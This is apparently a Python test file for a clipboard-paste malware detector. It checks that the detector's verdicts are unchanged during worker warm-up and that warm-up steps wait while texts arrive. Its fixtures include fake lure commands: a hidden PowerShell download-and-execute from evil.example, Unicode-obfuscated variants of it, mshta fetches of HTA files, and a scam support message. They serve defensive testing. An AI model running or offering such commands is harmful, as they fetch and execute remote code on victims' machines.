"""The analysis process says ready before the rest of its warm-up (worker.warm_first), and
takes that rest a step at a time while no text waits: the verdicts do not depend on it."""

from __future__ import annotations

import threading
import time
from collections.abc import Iterator
from multiprocessing import Pipe

import pytest

from app.detection import worker
from app.detection.engine import Engine
from app.detection.model import Context, PasteTarget, Verdict
from app.detection.wire import decode_reply, encode_request

CONTEXTS = [Context(), Context(target=PasteTarget.TERMINAL), Context(target=PasteTarget.RUN_DIALOG)]
LURE = 'powershell -w h -c "iwr https://evil.example/a.ps1 | iex"'
# texts that each need something the rest of the warm-up makes
TEXTS = [
    LURE,
    "po\u017fhell -c iwr https://evil.example/a.ps1 | iex",  # U+017F: Hyperscan would misread it
    "\u212aill: mshta https://evil.example/k.hta",  # U+212A (Kelvin), the same
    "Ваш компьютер заблокирован. Позвоните в поддержку: +1 (888) 555-0142",  # not ASCII
    "# notes\n" + "let x = 1; // a line of code\n" * 700 + LURE,  # chunks over 8 KiB
    "Grüße aus München: mshta https://evil.example/g.hta",
    "echo hello",
]


def _key(v: Verdict) -> tuple[object, ...]:
    return (v.level, v.score, v.complete, sorted(f.rule_id for f in v.findings))


def _read(engine: Engine) -> list[list[tuple[object, ...]]]:
    return [[_key(v) for v in engine.read(t, CONTEXTS)] for t in TEXTS]


def test_verdicts_are_the_same_at_every_step_of_the_warm_up(engine: Engine) -> None:
    expected = _read(engine)
    fresh = worker.WorkerSpec(strict=True).engine()
    later = worker.warm_first(fresh)
    assert _read(fresh) == expected  # ready: each text makes what it needs itself
    steps = 0
    for _step in later:
        steps += 1
        if steps in (1, 5):
            assert _read(fresh) == expected
    # the confirmations and the rules without Hyperscan are steps only with its database
    # (a checkout whose rules changed since datafiles.compile_shipped has none)
    assert steps >= (4 if fresh.rules._hs is not None else 1)
    assert _read(fresh) == expected


def test_ready_is_said_first_and_the_rest_waits_while_texts_come(
    engine: Engine, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(worker, "QUIET", 1.0)
    taken: list[float] = []

    def later() -> Iterator[None]:
        for _ in range(3):
            taken.append(time.monotonic())
            yield

    guard_end, worker_end = Pipe()
    answering = threading.Thread(target=worker.answer, args=(worker_end, engine, later()))
    answering.start()
    try:
        assert guard_end.poll(10) and guard_end.recv_bytes() == worker.READY
        guard_end.send_bytes(encode_request(LURE, CONTEXTS[:1]))  # a text at once
        assert guard_end.poll(30)
        (verdict,) = decode_reply(guard_end.recv_bytes(), LURE)
        replied = time.monotonic()
        assert verdict.level.label == "malicious"
        assert taken == []  # no step before the text's answer
        deadline = time.monotonic() + 30
        while len(taken) < 3 and time.monotonic() < deadline:
            time.sleep(0.01)
        assert len(taken) == 3 and taken[0] - replied >= 0.9  # after a quiet second
    finally:
        guard_end.close()  # EOF: answer() returns
        answering.join(timeout=30)
    assert not answering.is_alive()
